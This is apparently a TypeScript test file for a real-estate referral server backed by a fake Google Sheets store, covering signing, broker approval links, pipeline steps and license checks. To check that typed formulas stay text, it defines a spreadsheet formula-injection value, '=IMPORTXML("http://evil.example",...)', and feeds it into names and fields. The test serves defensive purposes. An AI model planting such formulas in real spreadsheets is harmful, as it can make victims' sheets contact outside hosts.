/**
 * The referral server functions on the Sheets driver (the fake Sheets server): a whole
 * agreement and pipeline lands in the Referrals and ReferralEvents tabs, another instance
 * reads it back the same, and typed text that looks like a formula stays text.
 */
import { createHash } from "node:crypto";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { proposalSchema } from "../../app/domain/referrals/agreement";
import { cdaSchema } from "../../app/domain/referrals/cda";
import type { TrecLicense } from "../../app/domain/license-check";
import { agreementText } from "../../app/domain/referrals/agreement-text";
import type { Agent } from "../../app/domain/workbook/tabs";
import { createAuthServices } from "../../app/server/auth/auth-services.server";
import { loadConfig } from "../../app/server/config.server";
import { licenseDatabaseFile, openLicenseTable } from "../../app/server/licenses/license-table.server";
import { createOutboxMailer } from "../../app/server/mail/mailer.server";
import { createNotifier } from "../../app/server/notifier/notifier.server";
import { agreementHash } from "../../app/server/referrals/agreement-text.server";
import { approveAsBroker, readBrokerLink } from "../../app/server/referrals/broker-signoff.server";
import { sendCda } from "../../app/server/referrals/cda.server";
import { endProposal, proposeReferral, referralFor, signReferral, takeStep } from "../../app/server/referrals/referrals.server";
import { createReplica } from "../../app/server/store/replica.server";
import { createSendClaims } from "../../app/server/send-claims.server";
import { createReplicaServices } from "../../app/server/service-lifecycle.server";
import { createSheetsDriver } from "../../app/server/store/sheets-driver.server";
import type { Store } from "../../app/server/store/store.server";
import { openSheetsStore, useFakeSheets } from "../support/fake-sheets";
import { sentMails } from "../support/services";
import { agentRecord, requestRecord } from "../support/records";

const { fake, opened } = useFakeSheets();

const FORMULA = '=IMPORTXML("http://evil.example","//a")';

async function network() {
  const { store, spreadsheetId } = await openSheetsStore(fake, "referrals");
  opened.push(store);
  const outbox = mkdtempSync(path.join(tmpdir(), "referral-sheets-"));
  // The quota's pacing is tested in store-sheets-quota; here it would only make the test wait.
  const config = loadConfig({ NODE_ENV: "test", DATA_DIR: outbox, SHEETS_WRITE_CALLS_PER_MINUTE: "300" });
  const sendClaims = createSendClaims({ store });
  const { writeQueues, messageQueries } = createReplicaServices(store);
  const services = {
    store,
    config,
    auth: createAuthServices(config),
    notifier: createNotifier({ driver: createOutboxMailer(path.join(outbox, "outbox"), "app@example.test"), claims: sendClaims, config }),
    writeQueues,
    messageQueries,
    sendClaims,
    // No TREC data loaded: the license re-checks let every step through.
    licenses: { table: openLicenseTable(licenseDatabaseFile(outbox)) },
  };
  const maria = await store.agents.insert(
    agentRecord({
      fullName: "Maria Delgado",
      brokerage: "Sooner Homes",
      brokerLicenseNumber: "OK-155",
      brokerEmail: "broker@soonerhomes.example",
    }),
  );
  const james = await store.agents.insert(
    agentRecord({ fullName: FORMULA, brokerage: "+1 Realty", brokerLicenseNumber: "0042", brokerEmail: "broker@plusone.example" }),
  );
  const request = await store.requests.insert(requestRecord(maria));
  const response = await store.responses.insert({
    id: "response-1",
    requestId: request.id,
    fromEmail: james.email,
    fromName: james.fullName,
    toEmail: maria.email,
    message: "Happy to help.",
    createdAt: new Date().toISOString(),
  });
  return { store, spreadsheetId, services, maria, james, request, response };
}

function input(fields: Record<string, unknown> = {}) {
  return proposalSchema.parse({
    referrer: "me",
    clientName: "Ana",
    side: "buyer",
    feeType: "percent",
    feePercent: "25",
    termMonths: 12,
    feeDue: "within 10 days after closing or funding",
    terms: `${FORMULA}\n@SUM(1,2)`,
    ...fields,
  });
}

function reopen(spreadsheetId: string): Store {
  const store = createReplica(createSheetsDriver({ spreadsheetId, credentials: { kind: "fixedToken" }, apiUrl: fake.url }), {
    refreshSeconds: 60,
    log: { info: () => undefined, warn: () => undefined, error: () => undefined },
  });
  opened.push(store);
  return store;
}

const link = "http://localhost/referrals/x";

/** The token of the last approval link mailed to `to`. */
async function mailedToken(services: Parameters<typeof sentMails>[0], to: string): Promise<string> {
  const mail = (await sentMails(services)).filter((sent) => sent.to === to && sent.subject.startsWith("Please approve")).at(-1);
  const match = /\/broker-approval\?token=(\S+)/.exec(mail?.text ?? "");
  if (!match) throw new Error(`no approval link mailed to ${to}`);
  return decodeURIComponent(match[1]!);
}

type Approval = { token: unknown; signedName: string; signedLicense: string; now?: Date };

function approval(services: Parameters<typeof approveAsBroker>[0], fields: Approval) {
  return approveAsBroker(services, {
    ip: "198.51.100.9",
    userAgent: "Broker UA",
    now: new Date("2026-11-23T16:00:00.000Z"),
    link: () => link,
    ...fields,
  });
}

describe("referrals on the Sheets store", () => {
  it("propose, sign, both brokers approve by link, every step: rows and timeline read back the same by another instance, formulas kept as text", async () => {
    const { store, spreadsheetId, services, maria, james, request, response } = await network();
    const now = new Date("2026-11-23T15:00:00.000Z");
    const proposed = await proposeReferral(services, {
      requestId: request.id,
      responseId: response.id,
      member: maria,
      input: input(),
      now,
      link: () => link,
    });
    if (!proposed.ok) throw new Error(proposed.message);
    const id = proposed.referral.id;
    const sign = (member: Agent, name: string, ip: string) => {
      const shownHash = agreementHash(referralFor(services, member, id)!);
      return signReferral(services, {
        referralId: id,
        member,
        fullName: name,
        shownHash,
        brokerChoice: "requested",
        ip,
        userAgent: "Test UA",
        now,
        link,
      });
    };
    expect((await sign(maria, "Maria Delgado", "198.51.100.1")).ok).toBe(true);
    expect((await sign(james, "James =1+1", "198.51.100.2")).ok).toBe(true);
    expect(store.referrals.get(id)!.status).toBe("proposed");
    const soonerToken = await mailedToken(services, "broker@soonerhomes.example");
    expect((await approval(services, { token: soonerToken, signedName: "Rosa =2+2", signedLicense: "OK-155" })).ok).toBe(true);
    const plusToken = await mailedToken(services, "broker@plusone.example");
    expect((await approval(services, { token: plusToken, signedName: "John Smith", signedLicense: "42" })).ok).toBe(true);
    expect(store.referrals.get(id)!.status).toBe("signed");

    const steps = [
      [maria, { intent: "introduced", note: "-2+3" }],
      [james, { intent: "under_contract", expectedCloseDate: "2027-01-10" }],
      [james, { intent: "closed", closeDate: "2027-01-12", salePrice: "300,000", grossCommission: "9,000.00" }],
      [james, { intent: "fee_paid" }],
      [maria, { intent: "fee_received" }],
    ] as const;
    for (const [member, step] of steps)
      expect((await takeStep(services, { referralId: id, member, input: step, now, link })).ok).toBe(true);

    const later = reopen(spreadsheetId);
    await later.refresh();
    const row = later.referrals.get(id)!;
    expect(row).toEqual(store.referrals.get(id));
    expect(row).toMatchObject({
      status: "fee_received",
      terms: `${FORMULA}\n@SUM(1,2)`,
      receivingName: FORMULA,
      receivingBrokerage: "+1 Realty",
      receivingBrokerLicense: "0042",
      receivingSignedName: "James =1+1",
      referringSignedIp: "198.51.100.1",
      receivingSignedIp: "198.51.100.2",
      receivingSignedAgent: "Test UA",
      feeAmount: 225000,
    });
    expect(row.referringSignedHash).toBe(createHash("sha256").update(agreementText(row)).digest("hex"));
    expect(later.brokerSignoffs.by("referralId", id)).toEqual(store.brokerSignoffs.by("referralId", id));
    expect(later.brokerSignoffs.by("referralId", id).find((row) => row.kind === "approved" && row.side === "referring")).toMatchObject({
      signedName: "Rosa =2+2",
      signedLicense: "OK-155",
      signedIp: "198.51.100.9",
      signedAgent: "Broker UA",
      agreementHash: row.agreementHash,
    });
    expect(later.referralEvents.by("referralId", id).map((event) => [event.step, event.note])).toEqual([
      ["proposed", ""],
      ["accepted", "Signed by Maria Delgado as the referring agent."],
      ["broker-requested", "Maria Delgado asked Sooner Homes to approve (link sent to broker@soonerhomes.example)."],
      ["accepted", "Signed by James =1+1 as the receiving agent."],
      ["broker-requested", `${FORMULA} asked +1 Realty to approve (link sent to broker@plusone.example).`],
      ["broker-approved", "Approved by Rosa =2+2 (license OK-155) for Sooner Homes."],
      ["broker-approved", "Approved by John Smith (license 42) for +1 Realty."],
      ["signed", "Both parties signed and both brokers signed off: the agreement is in force."],
      ["introduced", "-2+3"],
      ["under_contract", ""],
      ["closed", ""],
      ["fee_paid", ""],
      ["fee_received", ""],
    ]);
    // What staff see in the sheet is the typed text, never a computed formula.
    const cells =
      fake.spreadsheet(spreadsheetId).read("Referrals", { value: "FORMATTED_VALUE", dateTime: "FORMATTED_STRING" }).values ?? [];
    expect(cells.flat()).toContain(`${FORMULA}\n@SUM(1,2)`);
    expect(cells.flat()).toContain("James =1+1");
    const signoffCells =
      fake.spreadsheet(spreadsheetId).read("BrokerSignoffs", { value: "FORMATTED_VALUE", dateTime: "FORMATTED_STRING" }).values ?? [];
    expect(signoffCells.flat()).toContain("Rosa =2+2");
  });

  it("a broker link forged, expired, used or for another broker is refused, and no BrokerSignoffs row is added", async () => {
    const { store, services, maria, james, request, response } = await network();
    const now = new Date("2026-11-23T15:00:00.000Z");
    const proposed = await proposeReferral(services, {
      requestId: request.id,
      responseId: response.id,
      member: maria,
      input: input(),
      now,
      link: () => link,
    });
    if (!proposed.ok) throw new Error(proposed.message);
    const id = proposed.referral.id;
    for (const member of [maria, james]) {
      const shownHash = agreementHash(referralFor(services, member, id)!);
      const signed = await signReferral(services, {
        referralId: id,
        member,
        fullName: member.fullName,
        shownHash,
        brokerChoice: member === maria ? "attested" : "requested",
        ip: "198.51.100.1",
        userAgent: "Test UA",
        now,
        link,
      });
      expect(signed.ok).toBe(true);
    }
    const token = await mailedToken(services, "broker@plusone.example");
    const rows = () => store.brokerSignoffs.by("referralId", id).length;
    const before = rows();
    const [carried = "", signature = ""] = token.split(".");
    expect(
      await approval(services, { token: `${carried}.${signature.slice(0, -2)}AA`, signedName: "X", signedLicense: "0042" }),
    ).toMatchObject({
      ok: false,
      link: "invalid",
    });
    const eightDaysOn = new Date(now.getTime() + 8 * 24 * 3600 * 1000);
    expect(readBrokerLink(services, token, eightDaysOn)).toEqual({ ok: false, reason: "expired" });
    expect(await approval(services, { token, signedName: "X", signedLicense: "0042", now: eightDaysOn })).toMatchObject({
      ok: false,
      link: "expired",
    });
    expect(await approval(services, { token, signedName: "Rosa", signedLicense: "OK-155" })).toMatchObject({
      ok: false,
      status: 400,
      field: "signedLicense",
    });
    expect(rows()).toBe(before);
    expect((await approval(services, { token, signedName: "John Smith", signedLicense: "0042" })).ok).toBe(true);
    expect(store.referrals.get(id)!.status).toBe("signed");
    expect(await approval(services, { token, signedName: "John Smith", signedLicense: "0042" })).toMatchObject({ ok: false, link: "used" });
    expect(rows()).toBe(before + 1);
  });

  it("a wrong-party step and a decline by the proposer change no cell", async () => {
    const { store, spreadsheetId, services, maria, request, response } = await network();
    const now = new Date();
    const proposed = await proposeReferral(services, {
      requestId: request.id,
      responseId: response.id,
      member: maria,
      input: input(),
      now,
      link: () => link,
    });
    if (!proposed.ok) throw new Error(proposed.message);
    const before = fake.spreadsheet(spreadsheetId).read("Referrals").values;
    const declined = await endProposal(services, {
      referralId: proposed.referral.id,
      member: maria,
      outcome: "declined",
      note: "",
      now,
      link,
    });
    expect(declined).toMatchObject({ ok: false, status: 403 });
    const step = await takeStep(services, { referralId: proposed.referral.id, member: maria, input: { intent: "introduced" }, now, link });
    expect(step).toMatchObject({ ok: false, status: 403 });
    expect(fake.spreadsheet(spreadsheetId).read("Referrals").values).toEqual(before);
    expect(store.referralEvents.all()).toHaveLength(1);
  });
  it("a license lapsed after signing refuses under contract with no cell changed; a CDA's typed title company stays text", async () => {
    const { store, spreadsheetId, services, maria, james, request, response } = await network();
    const now = new Date("2026-11-23T15:00:00.000Z");
    const proposed = await proposeReferral(services, {
      requestId: request.id,
      responseId: response.id,
      member: maria,
      input: input(),
      now,
      link: () => link,
    });
    if (!proposed.ok) throw new Error(proposed.message);
    const id = proposed.referral.id;
    for (const [member, name] of [
      [maria, "Maria Delgado"],
      [james, "James Whitfield"],
    ] as const) {
      const shownHash = agreementHash(referralFor(services, member, id)!);
      const signed = await signReferral(services, {
        referralId: id,
        member,
        fullName: name,
        shownHash,
        brokerChoice: "attested",
        ip: "198.51.100.1",
        userAgent: "Test UA",
        now,
        link,
      });
      expect(signed.ok).toBe(true);
    }
    expect(store.referrals.get(id)!.status).toBe("signed");
    expect((await takeStep(services, { referralId: id, member: maria, input: { intent: "introduced" }, now, link })).ok).toBe(true);

    // James's license (TX 0612345 in the test records) expires before he reports the contract.
    const license = (status: string): TrecLicense => ({
      licenseNumber: james.licenseNumber,
      licenseType: "SALE",
      fullName: "WHITFIELD, JAMES",
      suffix: "",
      status,
      expiration: status === "Expired" ? "2026-11-01" : "2099-12-31",
      sponsorName: "",
      sponsorLicenseNumber: "",
      email: "",
    });
    const load = (record: TrecLicense) =>
      services.licenses.table.replace(
        (async function* () {
          yield record;
        })(),
        "test data",
      );
    await load(license("Expired"));
    const before = fake.spreadsheet(spreadsheetId).read("Referrals").values;
    const underContract = { intent: "under_contract", expectedCloseDate: "2027-01-10" } as const;
    const refused = await takeStep(services, { referralId: id, member: james, input: underContract, now, link });
    expect(refused).toMatchObject({ ok: false, status: 400 });
    expect(fake.spreadsheet(spreadsheetId).read("Referrals").values).toEqual(before);

    await load(license("Current and active"));
    expect((await takeStep(services, { referralId: id, member: james, input: underContract, now, link })).ok).toBe(true);
    const cda = cdaSchema.parse({
      intent: "cda",
      titleCompany: FORMULA,
      titleEmail: "closer@title.example",
      expectedCloseDate: "2027-01-12",
    });
    expect((await sendCda(services, { referralId: id, member: james, input: cda, now, link })).ok).toBe(true);

    const later = reopen(spreadsheetId);
    await later.refresh();
    expect(later.referrals.get(id)).toMatchObject({ status: "under_contract", titleCompany: FORMULA, titleEmail: "closer@title.example" });
    expect(later.referralEvents.by("referralId", id).map((event) => event.step)).toContain("cda");
    const cells =
      fake.spreadsheet(spreadsheetId).read("Referrals", { value: "FORMATTED_VALUE", dateTime: "FORMATTED_STRING" }).values ?? [];
    expect(cells.flat()).toContain(FORMULA);
    const cdaMailTo = (await sentMails(services))
      .filter((mail) => mail.subject.startsWith("Commission disbursement"))
      .map((mail) => mail.to);
    expect(cdaMailTo).toEqual(expect.arrayContaining(["broker@soonerhomes.example", "broker@plusone.example"]));
  });
});
